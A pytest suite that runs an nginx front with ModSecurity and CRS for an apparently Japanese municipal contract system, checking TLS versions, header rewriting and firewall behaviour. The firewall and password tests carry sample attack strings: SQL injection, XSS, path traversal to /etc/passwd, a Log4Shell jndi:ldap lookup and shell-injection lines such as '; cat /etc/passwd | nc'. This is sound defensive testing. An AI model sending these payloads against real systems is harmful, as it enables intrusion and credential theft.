"""The front: TLS, the wall before the pages, and what it passes on. Played on a real nginx with ModSecurity and CRS.

The image of the compose file cannot run without containers; Debian's packages (nginx, libnginx-mod-http-modsecurity,
modsecurity-crs) read the same files. Where they are not installed, only what the files say is looked at. FRONT_ROOT
names a folder in which the packages were unpacked.
"""

import http.client
import http.server
import os
import re
import shutil
import socket
import ssl
import subprocess
import threading
import time
import warnings
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from urllib.parse import quote

import pytest
import yaml
from cryptography.hazmat.primitives import serialization
from django.conf import settings

from tests.signing import keymaker

FOLDER = Path(settings.BASE_DIR) / "deploy/nginx"
ROOT = Path(os.environ.get("FRONT_ROOT", "/"))
MODULE = ROOT / "usr/lib/nginx/modules/ngx_http_modsecurity_module.so"
CRS = ROOT / "usr/share/modsecurity-crs/rules"
NGINX = ROOT / "usr/sbin/nginx"
CAN_RUN = NGINX.exists() and MODULE.exists() and CRS.is_dir()
TEXT = (FOLDER / "nginx.conf").read_text()
# 条文のことば: 引用符、かっこ、SQL や命令に似た語を含む、ふつうの契約の文
CLAUSE = (
    "第1条（総則）甲は、「select」方式により選定した乙に対し、次の業務を委託する。\n"
    "2 乙は、union（共同企業体）の代表者として、単価 1,000円 or 総価で; 甲の指示 -- 別紙のとおり -- に従う。\n"
    "<注> 数量が100<=n かつ n>=1 のとき 'A&B' 社の材料を用いる。"
)


class Seen(http.server.BaseHTTPRequestHandler):
    """Stand in for the pages: say what arrived."""

    def do_GET(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        body = "".join(f"{name}: {value}\n" for name, value in self.headers.items()).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_TRACE = do_GET

    def log_message(self, *line: object) -> None:
        """Say nothing."""


def credentials(place: Path) -> tuple[Path, Path]:
    """Make a key and a certificate for it."""
    key, written = keymaker.p256(), serialization.Encoding.PEM
    plain = key.private_bytes(written, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
    (place / "key.pem").write_bytes(plain)
    (place / "certificate.pem").write_bytes(keymaker.certificate(key, name="keiyaku.example.jp").public_bytes(written))
    return place / "key.pem", place / "certificate.pem"


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


@pytest.fixture(scope="module")
def front(tmp_path_factory) -> Iterator[int]:
    """Run the front before a stand-in, with the paths of this machine; yield its port."""
    place = tmp_path_factory.mktemp("front")
    pages = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Seen)
    threading.Thread(target=pages.serve_forever, daemon=True).start()
    key, certificate = credentials(place)
    port, plain = free_port(), free_port()
    shutil.copytree(FOLDER / "waf", place / "waf")
    mapping = next(ROOT.glob("etc/nginx/unicode.mapping"))
    paths = {
        "/run/tls/fullchain.pem": str(certificate),
        "/run/tls/privkey.pem": str(key),
        "listen 8443": f"listen 127.0.0.1:{port}",
        "listen 8080": f"listen 127.0.0.1:{plain}",
        "server web:8000": f"server 127.0.0.1:{pages.server_port}",
        "modules/ngx_http_modsecurity_module.so": str(MODULE),
        "/etc/nginx/mime.types": str(ROOT / "etc/nginx/mime.types"),
        "/etc/modsecurity.d/unicode.mapping": str(mapping),
        "/opt/owasp-crs/rules": str(CRS),
        "/etc/nginx/waf": str(place / "waf"),
        "/tmp": str(place),
    }
    for path in (place / "waf").iterdir():
        path.write_text(moved(path.read_text(), paths))
    (place / "nginx.conf").write_text(moved(TEXT, paths))
    libraries = {"LD_LIBRARY_PATH": str(ROOT / "usr/lib/x86_64-linux-gnu")} if Path("/") != ROOT else {}
    # root で動かす試験では、仕事をするプロセスも root のままにして、試験の置き場に書けるようにする
    who = "daemon off; user root;" if os.geteuid() == 0 else "daemon off;"
    command = [NGINX, "-p", place, "-c", place / "nginx.conf", "-g", who]
    with (place / "said").open("w") as said:
        server = subprocess.Popen(command, env=os.environ | libraries, stderr=said)
    try:
        wait(port, server, place / "said")
        yield port
    finally:
        server.terminate()
        server.wait(20)
        pages.shutdown()
        pages.server_close()


def moved(text: str, paths: dict[str, str]) -> str:
    pattern = re.compile("|".join(map(re.escape, paths)))
    return pattern.sub(lambda found: paths[found[0]], text)


def wait(port: int, server: subprocess.Popen[bytes], said: Path) -> None:
    for _ in range(300):
        assert server.poll() is None, said.read_text()
        with socket.socket() as probe:
            if probe.connect_ex(("127.0.0.1", port)) == 0:
                return
        time.sleep(0.1)
    raise AssertionError("nginx does not answer")


def ask(port: int, method: str, path: str, body: bytes | None = None, **headers: str) -> tuple[int, str]:
    trusting = ssl.create_default_context()
    trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
    line = http.client.HTTPSConnection("127.0.0.1", port, context=trusting, timeout=60)
    kept = {"Host": "keiyaku.example.jp", "User-Agent": "Mozilla/5.0", "Accept": "text/html"}
    line.request(method, path, body, kept | {name.replace("_", "-"): value for name, value in headers.items()})
    with closing(line):
        answer = line.getresponse()
        return answer.status, answer.read().decode()


def form(**fields: str) -> dict[str, object]:
    body = "&".join(f"{name}={quote(value)}" for name, value in fields.items()).encode()
    return {"body": body, "Content_Type": "application/x-www-form-urlencoded"}


played = pytest.mark.skipif(not CAN_RUN, reason="nginx, libnginx-mod-http-modsecurity and modsecurity-crs are needed")


@played
def test_what_the_pages_are_told_comes_from_the_front_and_not_from_the_caller(front):
    lies = {"X_Forwarded_For": "10.0.0.1", "X_Forwarded_Host": "evil.example", "X_Request_ID": "mine"}

    status, seen = ask(front, "GET", "/tosu/sign/abc/", **lies)

    assert status == 200
    assert "X-Forwarded-For: 127.0.0.1\n" in seen
    assert "X-Forwarded-Proto: https\n" in seen
    assert "evil.example" not in seen
    assert re.search(r"X-Request-ID: [0-9a-f]{32}\n", seen)


@played
@pytest.mark.parametrize("path", ["/metrics", "/readyz"])
def test_what_is_for_those_inside_is_not_shown(front, path):
    assert ask(front, "GET", path)[0] == 404


@played
@pytest.mark.parametrize(
    "path",
    [
        "/cases/?q=1%27%20UNION%20SELECT%20password%20FROM%20accounts_user--",
        "/cases/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/cases/?q=../../../../etc/passwd",
        "/cases/?q=%24%7Bjndi:ldap://evil/a%7D",
        "/cases/?q=;cat%20/etc/passwd",
        "/.git/config",
        "/.env",
    ],
    ids=["sql", "script", "path", "jndi", "command", "git", "env"],
)
def test_an_attack_stops_at_the_wall(front, path):
    assert ask(front, "GET", path)[0] == 403


@played
@pytest.mark.parametrize("method", ["TRACE", "CONNECT", "PROPFIND"])
def test_a_method_that_no_page_knows_stops_at_the_wall(front, method):
    assert ask(front, method, "/")[0] in {400, 403, 405}


@played
@pytest.mark.parametrize("field", ["body", "reason", "comment", "remark", "special_terms"])
def test_the_words_of_a_contract_pass(front, field):
    assert ask(front, "POST", "/cases/7/", **form(**{field: CLAUSE, "csrfmiddlewaretoken": "x" * 64}))[0] == 200


@played
@pytest.mark.parametrize(
    "title", ["改修工事（その2） A&B棟 <1期>", "業務「A&B」一式 10%～20% (案)", "第2工区; 別紙 -- 1-2"]
)
def test_the_titles_of_works_pass_anywhere(front, title):
    assert ask(front, "POST", "/tosu/consent/", **form(applicant=title))[0] == 200


@played
@pytest.mark.parametrize("path", ["/cases/7/", "/tosu/consent/"])
def test_a_script_in_a_short_field_stops_at_the_wall(front, path):
    assert ask(front, "POST", path, **form(applicant="<script>alert(document.cookie)</script>"))[0] == 403


@played
@pytest.mark.parametrize("password", ["' or 1=1 --", "<script>alert(1)</script>", "; cat /etc/passwd | nc"])
def test_any_password_passes(front, password):
    assert ask(front, "POST", "/accounts/login/", **form(login="kian@tosu.lg.jp", password=password))[0] == 200


@played
@pytest.mark.parametrize(
    "path",
    [
        "/cases/?q=" + quote("取引先:髙﨑建設 金額:1000万円以上 締結:令和8年4月"),
        "/cases/?q=" + quote("（仮称）鳥栖市役所本庁舎　改修工事（その2）"),
        "/tosu/sign/" + "Zk9_-x" * 7 + "/",
        "/archive/?from=2026-04-01&to=2027-03-31&amount=1000000..&partner=" + quote("㈱𠮷野組"),
    ],
    ids=["words", "title", "link", "archive"],
)
def test_what_people_ask_for_passes(front, path):
    assert ask(front, "GET", path)[0] == 200


@played
def test_an_upload_larger_than_any_city_takes_is_refused_in_japanese(front):
    status, page = ask(front, "POST", "/verify/", Content_Length=str(300 * 1024 * 1024), Content_Type="application/pdf")

    assert status == 413
    assert "大きすぎて受け取れません" in page
    assert 'lang="ja"' in page


@played
def test_a_pdf_passes(front):
    content = b"%PDF-1.7\n" + bytes(range(256)) * 4000
    body = (
        b'--b\r\nContent-Disposition: form-data; name="file"; filename="\xe4\xbb\x95\xe6\xa7\x98\xe6\x9b\xb8.pdf"\r\n'
    )
    body += b"Content-Type: application/pdf\r\n\r\n" + content + b"\r\n--b--\r\n"

    assert ask(front, "POST", "/cases/7/documents/", body, Content_Type="multipart/form-data; boundary=b")[0] == 200


@played
@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1], ids=["1.0", "1.1"])
def test_old_tls_is_not_spoken(front, version):
    old = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    old.check_hostname, old.verify_mode = False, ssl.CERT_NONE
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        old.minimum_version = old.maximum_version = version
    old.set_ciphers("ALL:@SECLEVEL=0")

    with socket.create_connection(("127.0.0.1", front)) as line, pytest.raises((ssl.SSLError, ConnectionError)):
        old.wrap_socket(line)


def test_the_address_of_no_page_is_written_down():
    assert "access_log off;" in TEXT
    assert "error_log /dev/stderr crit;" in TEXT
    assert "SecAuditEngine Off" in (FOLDER / "waf/engine.conf").read_text()


def test_the_pages_trust_the_network_of_the_front_alone():
    compose = yaml.safe_load((Path(settings.BASE_DIR) / "docker-compose.yml").read_text())
    (network,) = compose["networks"]["pages"]["ipam"]["config"]

    assert compose["services"]["web"]["environment"]["TRUSTED_PROXIES"] == network["subnet"]


def test_only_tls_with_forward_secrecy_is_offered():
    (protocols,) = re.findall(r"ssl_protocols (.*);", TEXT)
    (ciphers,) = re.findall(r"ssl_ciphers (.*);", TEXT)

    assert protocols == "TLSv1.2 TLSv1.3"
    assert all(cipher.startswith("ECDHE-") for cipher in ciphers.split(":"))
    assert all("GCM" in cipher or "POLY1305" in cipher for cipher in ciphers.split(":"))
